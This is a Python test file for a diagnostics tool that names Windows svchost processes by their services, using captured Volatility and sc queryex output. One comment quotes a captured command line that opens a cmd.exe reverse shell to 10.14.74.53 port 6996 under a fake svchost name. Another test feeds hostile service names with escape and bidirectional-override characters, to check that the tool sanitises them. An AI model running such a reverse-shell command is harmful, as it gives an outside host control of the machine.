"""Windows service hosts are named by their services, from real captured output of the
real tools (tests/data/SOURCES.md): the command lines of a Windows Server 2019 machine's
processes (Volatility's windows.cmdline) and `sc queryex type= service` on Windows 7,
fed where psutil would read them on Windows."""

from __future__ import annotations

from pathlib import Path

import pytest

from desktop.diagnostics.apps import default_catalog
from desktop.diagnostics.sampling import service_hosts
from desktop.diagnostics.sampling.script_names import ScriptNames
from desktop.diagnostics.sampling.service_hosts import ServiceTable

DATA = Path(__file__).resolve().parent.parent / "data"


def data_path(name: str) -> Path:
    return DATA / name


def command_lines() -> dict[int, tuple[str, list[str] | None]]:
    """pid -> (process name, argv or None where Volatility could not read it)."""
    out = {}
    text = data_path("windows/volatility_cmdline_server2019.txt").read_text()
    for line in text.splitlines()[2:]:
        pid, process, args = line.split("\t", 2)
        readable = not args.startswith("Required memory")
        out[int(pid)] = (process, args.split() if readable else None)
    return out


def sc_queryex() -> list[tuple[str, str, int]]:
    """(key, display name, pid) of each running service, as psutil gives them."""
    rows, key, shown = [], "", ""
    text = data_path("windows/sc_queryex_win7.txt").read_text()
    for line in text.splitlines():
        label, _, value = line.strip().partition(":")
        if label == "SERVICE_NAME":
            key = value.strip()
        elif label == "DISPLAY_NAME":
            shown = value.strip()
        elif label.strip() == "PID":
            rows.append((key, shown, int(value)))
    return rows


CMDLINES = command_lines()


def named(pid: int, table: ServiceTable | None = None) -> tuple[str, str]:
    """(the sampler's name, the name a person reads) for a process of the capture."""
    process, argv = CMDLINES[pid]
    names = ScriptNames(lambda _pid: argv, table or ServiceTable(sc_queryex))
    name = names.name(pid, 1.0, process)
    return name, default_catalog().identify(name, names.services).name


@pytest.mark.parametrize(
    "pid,service",
    [(928, "PlugPlay"), (1740, "Schedule"), (1588, "Dhcp"), (2980, "iphlpsvc"),
     (4216, "CDPUserSvc"), (2628, "W32Time")],
)  # fmt: skip
def test_a_host_running_one_service_is_named_by_it_never_by_its_command_line(pid, service):
    name, _shown = named(pid)
    assert name == f"service:{service}"
    assert "-k" not in name and "svchost" not in name  # nothing else of the command line


def test_a_service_goes_by_its_display_name_and_windows_update_by_windows_update():
    assert named(1740)[1] == "Task Scheduler"  # the display name Windows gives it
    assert named(1248)[1] == "Windows Event Log"  # key names are not case-sensitive
    assert named(2560)[1] == "SysMain"  # not in this table: its key, never "svchost"
    update = default_catalog().identify(named(6624)[0])  # UsoSvc
    assert (update.name, update.background) == ("Windows Update", "update")


def test_a_shared_host_is_named_by_the_services_the_service_manager_lists_for_it():
    # An ordinary account may not read a system host's command line (psutil: AccessDenied).
    names = ScriptNames(lambda _pid: None, ServiceTable(sc_queryex))
    name = names.name(764, 1.0, "svchost.exe")
    assert name == "service:Dhcp,eventlog,wscsvc"
    ident = default_catalog().identify(name, names.services)
    assert ident.name == "Windows services (DHCP Client, Windows Event Log and Security Center)"
    # One the service manager does not know of stays part of the operating system.
    assert named(1636) == ("svchost.exe", "the operating system")


def test_a_program_that_only_calls_itself_svchost_is_never_passed_off_as_windows():
    name, shown = named(5228)  # C:\Tools\svchost.exe -e cmd.exe 10.14.74.53 6996
    assert name == "C:\\Tools\\svchost.exe" and shown == "C:\\Tools\\svchost"
    assert "10.14.74.53" not in name and "cmd.exe" not in name  # its arguments never


def test_other_programs_arguments_are_never_read():
    asked: list[int] = []
    names = ScriptNames(lambda pid: asked.append(pid) or CMDLINES[pid][1], ServiceTable())
    assert names.name(3580, 1.0, "notepad.exe") == "notepad.exe"  # a document path in argv
    assert names.name(4904, 1.0, "explorer.exe") == "explorer.exe"
    assert asked == []


def test_the_service_manager_is_asked_at_most_every_few_minutes_and_may_fail():
    calls: list[float] = []
    now = [0.0]

    def source():
        calls.append(now[0])
        return sc_queryex()

    table = ServiceTable(source, clock=lambda: now[0])
    names = ScriptNames(lambda _pid: None, table)
    for pid in range(20_000, 20_200):  # hosts it does not know, at every walk
        names.name(pid, 1.0, "svchost.exe")
    assert calls == [0.0]
    now[0] = service_hosts.REFRESH_S + 1
    assert names.name(30_000, 1.0, "svchost.exe") == "svchost.exe" and len(calls) == 2

    def broken():
        raise OSError(5, "Access is denied")

    quiet = ScriptNames(lambda _pid: None, ServiceTable(broken))
    assert quiet.name(764, 1.0, "svchost.exe") == "svchost.exe"  # and the walk goes on


def test_hostile_service_names_are_shown_as_text_and_kept_short():
    rows = [("Evil\x1b[31m", "Red\nline\u202e" + "x" * 500, 42), ("a,b", "Comma", 43)]
    names = ScriptNames(lambda _pid: None, ServiceTable(lambda: rows))
    name = names.name(42, 1.0, "svchost.exe")
    shown = default_catalog().identify(name, names.services).name
    assert "\x1b" not in name + shown and "\n" not in shown and "\u202e" not in shown
    assert len(shown) <= service_hosts.MAX_KEY_CHARS
    assert names.name(43, 1.0, "svchost.exe") == "svchost.exe"  # a key that would split
